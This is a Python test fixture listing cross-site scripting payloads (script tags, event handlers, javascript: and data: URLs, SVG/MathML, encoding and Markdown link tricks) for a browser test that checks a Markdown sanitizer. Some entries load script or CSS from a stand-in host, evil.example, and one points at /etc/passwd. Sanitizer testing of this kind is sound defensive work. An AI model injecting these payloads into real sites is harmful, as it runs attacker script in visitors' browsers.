"""Cross-site scripting attempts an admin-written page might contain, by accident or by a
compromised account: tags, event handlers, dangerous URL schemes, SVG and MathML, encodings,
entity tricks, Markdown's own link syntax and parser confusion. Written for this project.

Each would, if it ran, set `window.__xss` or open a dialog; the browser test checks neither
happened."""

RUN = "window.__xss=1"

_SCRIPT_TAGS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<script type=text/javascript>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</p><script>{RUN}</script><p>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    f"<!--<script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<template><script>{RUN}</script></template>",
]

_EVENT_HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=x onerror\n={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror=`{RUN}`>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<input autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<a href="https://example.com" onmouseover="{RUN}">hover</a>',
    f'<p onclick="{RUN}">click</p>',
    f'<strong onmouseenter="{RUN}">bold</strong>',
    f'<em style="x" onanimationstart="{RUN}">em</em>',
    f"<div onpointerover={RUN}>x</div>",
    f"<xss onpointerenter={RUN}>x</xss>",
    f"<object data=x onerror={RUN}></object>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
]

_SCHEMES = [
    f"[link](javascript:{RUN})",
    f"[link](JaVaScRiPt:{RUN})",
    f"[link](javascript&colon;{RUN})",
    f"[link](&#106;avascript:{RUN})",
    f"[link](&#x6A;avascript:{RUN})",
    f"[link](java&#x09;script:{RUN})",
    f"[link](java%0ascript:{RUN})",
    f"[link](%6Aavascript:{RUN})",
    f"[link]( javascript:{RUN} )",
    f"[link](<javascript:{RUN}>)",
    f"[link](\\javascript:{RUN})",
    f"[link](javascript://%0a{RUN})",
    f"[link](vbscript:{RUN})",
    f"[link](livescript:{RUN})",
    "[link](data:text/html,<script>window.__xss=1</script>)",
    "[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "[link](data:image/svg+xml,<svg onload=window.__xss=1>)",
    "[link](file:///etc/passwd)",
    f"<javascript:{RUN}>",
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="javas&#99;ript:{RUN}">x</a>',
    f'<a href=" &#14; javascript:{RUN}">x</a>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe src=data:text/html,<script>{RUN}</script>></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><input type=submit></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<base href="javascript:/">',
    f"<a href=javascript:{RUN}>x</a>",
]

_SVG_AND_MATHML = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><use href=data:image/svg+xml,<svg id=x onload={RUN}>#x></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
]

_ENCODED = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3C;script&#x3E;{RUN}&#x3C;/script&#x3E;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "<img src=x onerror=&#119;indow.__xss=1>",
    "<img src=x onerror=\\u0077indow.__xss=1>",
    f"＜script＞{RUN}＜/script＞",
    "<svg><script>&#119;&#105;&#110;dow.__xss=1</script></svg>",
]

_MARKDOWN_TRICKS = [
    f'[x](https://example.com "title" onmouseover="{RUN}")',
    f'[x](https://example.com "t\\" onmouseover=\\"{RUN}")',
    f"[<img src=x onerror={RUN}>](https://example.com)",
    f"[x][evil]\n\n[evil]: javascript:{RUN}",
    f"[x][evil]\n\n[evil]: <javascript:{RUN}>",
    f"![x](javascript:{RUN})",
    f'![x](https://example.com/a.png "onerror={RUN}")',
    f"![x](x onerror={RUN})",
    f"[x](https://example.com)<img src=x onerror={RUN}>",
    f"`<script>{RUN}</script>`",
    f"```\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"> <script>{RUN}</script>",
    f"- <img src=x onerror={RUN}>",
    f"# <svg onload={RUN}>",
    f"**<img src=x onerror={RUN}>**",
    f'[x](https://example.com\\"onmouseover=\\"{RUN})',
    f"[x](https://exa<script>{RUN}</script>mple.com)",
    f"[x](javascript:{RUN} 'title')",
    f'<https://example.com/" onmouseover="{RUN}>',
    f"[x](mailto:a@example.com?body=<script>{RUN}</script>)",
    f"[x](tel:<img src=x onerror={RUN}>)",
    "[x](https://example.com/%22%3E%3Cscript%3Ewindow.__xss=1%3C/script%3E)",
    f"*[x](javascript:{RUN})*",
    f"[x](javascript:{RUN})[y](https://example.com)",
    f"<a href='https://example.com'>[x](javascript:{RUN})</a>",
]

_STYLES_AND_OTHERS = [
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    '<div style="position:fixed;inset:0;background:#fff">Pay here</div>',
    "<link rel=import href=https://evil.example/x.html>",
    "<frameset><frame src=https://evil.example></frameset>",
    f"<applet code=x onerror={RUN}></applet>",
    "<img src=https://evil.example/pixel.png>",
    f"<dialog open onclose={RUN}>x</dialog>",
    "<input type=hidden name=csrfmiddlewaretoken value=forged>",
]

PAYLOADS = (
    _SCRIPT_TAGS
    + _EVENT_HANDLERS
    + _SCHEMES
    + _SVG_AND_MATHML
    + _ENCODED
    + _MARKDOWN_TRICKS
    + _STYLES_AND_OTHERS
)
# Some also try a dialog, which the browser test listens for.
DIALOG_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=confirm(1)>",
    "[x](javascript:alert(1))",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
]
ALL_PAYLOADS = PAYLOADS + DIALOG_PAYLOADS
